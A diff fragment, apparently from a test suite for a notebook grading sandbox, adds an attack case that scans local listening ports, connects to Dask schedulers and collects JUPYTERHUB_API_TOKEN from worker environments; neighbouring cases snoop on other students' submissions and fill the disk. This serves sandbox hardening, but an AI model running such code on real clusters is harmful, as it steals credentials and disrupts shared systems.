@@ -459,6 +459,41 @@ files = glob.glob({str(course / "submitted")!r} + "/*/*/*.ipynb") + glob.glob("/
                                                                              recursive=True)
 print("spy:", "FOUND" if count > 2 or files else "clean")
 """], lost={}),
+        "reaches-for-the-cluster": Attack(
+            2, "looks for the Dask worker it runs on and for any server listening on the "
+               "grader's machine (a Dask scheduler runs any code on every worker), asks each "
+               "for the workers' environment",
+            extra=["""
+import os, socket
+reached = []
+try:
+    from distributed import get_worker
+    reached.append(f"worker {get_worker().address}")
+except Exception:
+    pass
+addresses = [os.environ.get("DASK_SCHEDULER_ADDRESS")]
+with open("/proc/net/tcp") as table:  # every listening TCP socket (state 0A) of this network
+    for line in table.read().splitlines()[1:]:
+        local, state = line.split()[1], line.split()[3]
+        if state == "0A":
+            addresses.append(f"tcp://127.0.0.1:{int(local.split(':')[1], 16)}")
+def ask(address):
+    try:
+        from distributed import Client
+        client = Client(address, timeout=2)
+        found = client.run(lambda: os.environ.get("JUPYTERHUB_API_TOKEN"))
+        reached.append(f"{address} {found}")
+    except Exception:
+        pass
+import threading, time
+asking = [threading.Thread(target=ask, args=(a,), daemon=True) for a in filter(None, addresses)]
+for thread in asking:
+    thread.start()
+until = time.monotonic() + 2.5  # within the cell's timeout, whatever a server does
+for thread in asking:
+    thread.join(max(0, until - time.monotonic()))
+print("cluster:", "REACHED " + "; ".join(reached) if reached else "none reached")
+"""], lost={}),
         "fills-the-disk": Attack(
             2, "writes /tmp, its home and its working directory full",
             extra=["""
